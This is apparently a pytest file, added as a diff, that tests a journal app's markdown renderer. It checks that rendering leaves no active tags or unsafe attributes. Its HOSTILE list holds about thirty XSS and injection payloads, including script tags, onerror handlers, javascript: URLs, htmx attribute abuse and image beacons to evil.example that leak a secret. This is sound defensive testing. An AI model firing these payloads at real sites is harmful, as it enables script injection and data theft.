@@ -1,0 +1,108 @@
+import re
+
+import pytest
+
+from journal.entries.markdown import excerpt, plain, render
+
+PICTURE = "attachment:5b0c1f8e-3d4e-4f50-8a6b-7c8d9e0f1a2b"
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/?q=secret">',
+    "![](https://evil.example/?q=secret)",
+    "![](//evil.example/a)",
+    "![](attachment:../../evil.example)",
+    '<img src="/a/../lock/">',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](/lock/)",
+    "[x](//evil.example/)",
+    "<svg><script>1</script></svg>",
+    "<svg><a xlink:href='javascript:1'>x</a></svg>",
+    '<a href="https://a.b" hx-get="/lock" data-hx-post="/x" onclick=1>z</a>',
+    "<div hx-get=/export hx-trigger=load>q</div>",
+    "<form action=/lock><input name=csrfmiddlewaretoken><button>x</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
+    '<p id="csrf" class="htmx-request" name=x style="position:fixed">',
+    "<base href=//evil.example><meta http-equiv=refresh content=0>",
+    "<hx-partial hx-target=body>q</hx-partial>",
+    "<iframe srcdoc='<script>1</script>'></iframe>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea><img src=x onerror=1></textarea>",
+    "<style>@import '//evil.example'</style>",
+    "```html onload=alert(1)\n<script>\n```",
+    "<b <script>alert(1)</script>0",
+    "\n\ndata: event\n\n",
+]
+ATTRIBUTE = re.compile(r"<[a-z1-6]+((?: [^<>]*)?)>")
+HARMLESS = re.compile(
+    r'( href="(https?://|mailto:)[^"]*"| rel="noopener noreferrer nofollow"| alt="[^"]*")*'
+)
+LIVE = "script|style|form|input|button|iframe|svg|math|base|meta|textarea|hx-partial|div"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_tag_that_acts_is_left(text):
+    assert not re.search(rf"<({LIVE})\b", render(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_attribute_but_a_link_is_left(text):
+    for attributes in ATTRIBUTE.findall(render(text)):
+        assert HARMLESS.fullmatch(attributes)
+
+
+def test_a_page_asks_no_other_computer_for_a_picture():
+    assert "src" not in render("![sea](https://sea.example/sea.jpg)")
+
+
+def test_a_picture_of_this_vault_is_shown():
+    assert 'src="/a/bjvxzdm6b4ncw/" alt="sea"' in render(f"![sea]({PICTURE})")
+
+
+def test_a_file_of_this_vault_is_linked():
+    assert 'href="/a/bjvxzdm6b4ncw/"' in render(f"[ticket]({PICTURE})")
+
+
+def test_a_link_tells_the_other_side_nothing():
+    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.org)")
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <del>c</del></p>\n"),
+        ("- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n"),
+        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
+        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
+        ("#rain", "<p>#rain</p>\n"),
+    ],
+)
+def test_what_was_meant_is_shown(text, html):
+    assert render(text) == html
+
+
+def test_a_heading_stands_below_those_of_the_page():
+    assert render("# One\n###### Six") == "<h3>One</h3>\n<h6>Six</h6>\n"
+
+
+@pytest.mark.parametrize("text", [">" * 100_000, "<b>" * 20_000, "1. " * 50_000])
+def test_what_nests_absurdly_is_shown_as_it_was_typed(text):
+    assert render(text).startswith("<pre>")
+    assert "<b>" not in render(text)
+
+
+def test_plain_words_have_no_marks():
+    text = "# A *day*\n\nRain & <b>wind</b>\n\n| a | b |\n|--|--|\n| c | d |\n\n`x < y`"
+
+    assert plain(text) == "A day Rain & wind a b c d x < y"
+
+
+def test_an_excerpt_ends_with_a_whole_word():
+    assert excerpt("one two, three four", 10) == "one two …"
+
+
+def test_a_short_text_is_its_own_excerpt():
+    assert excerpt("*one* two") == "one two"
